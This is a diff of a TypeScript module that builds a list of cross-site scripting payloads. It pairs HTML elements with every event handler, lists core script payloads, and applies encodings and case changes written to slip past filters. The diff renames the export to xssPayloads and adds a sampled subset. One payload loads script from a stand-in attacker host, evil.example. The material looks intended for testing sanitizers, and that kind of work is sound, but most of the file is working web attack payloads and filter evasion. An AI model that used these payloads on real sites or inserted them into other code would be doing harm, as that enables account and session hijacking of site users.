@@ -1,4 +1,4 @@
-// Texts that run code on a page which takes them for markup: each kind of carrier with each kind of event, and what filters are got round with.
+// Texts that run code on a page that inserts them as markup: elements with event handlers, and markup disguised against filters.
 
 const CARRIERS = [
   'a href=x',
@@ -49,7 +49,7 @@ const EVENTS = [
   'touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting wheel',
 ].flatMap((line) => line.split(' '));
 
-/** Markup each of which runs code in a way of its own. */
+/** Each runs code or sends a request in a different way. */
 const CORES = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
@@ -124,7 +124,7 @@ const CORES = [
 const entity = (text: string, write: (code: number) => string) =>
   text.replaceAll(/[<>"'`:()]/g, (character) => write(character.charCodeAt(0)));
 
-/** Ways to say the same so that a filter does not know it again. */
+/** Ways to rewrite markup so that a filter does not recognize it. */
 const DISGUISES: readonly ((text: string) => string)[] = [
   (text) => text,
   (text) => text.toUpperCase(),
@@ -176,10 +176,21 @@ const DISGUISES: readonly ((text: string) => string)[] = [
   (text) => `/me ${text}`,
 ];
 
-/** Each once. */
-export const runningMarkup: readonly string[] = [
+const withEvent = (carrier: string, event: string) => `<${carrier} on${event}=alert(1)>`;
+
+/** Every carrier with every event, and every core in every disguise. Each once. */
+export const xssPayloads: readonly string[] = [
   ...new Set([
-    ...CARRIERS.flatMap((carrier) => EVENTS.map((event) => `<${carrier} on${event}=alert(1)>`)),
+    ...CARRIERS.flatMap((carrier) => EVENTS.map((event) => withEvent(carrier, event))),
     ...CORES.flatMap((core) => DISGUISES.map((disguise) => disguise(core))),
+  ]),
+];
+
+/** Every carrier, every event and every disguise at least once, and every core both as it is and in one disguise. Each once. */
+export const xssSample: readonly string[] = [
+  ...new Set([
+    ...EVENTS.map((event, index) => withEvent(CARRIERS[index % CARRIERS.length] ?? '', event)),
+    ...CORES,
+    ...CORES.map((core, index) => DISGUISES[index % DISGUISES.length]?.(core) ?? core),
   ]),
 ];
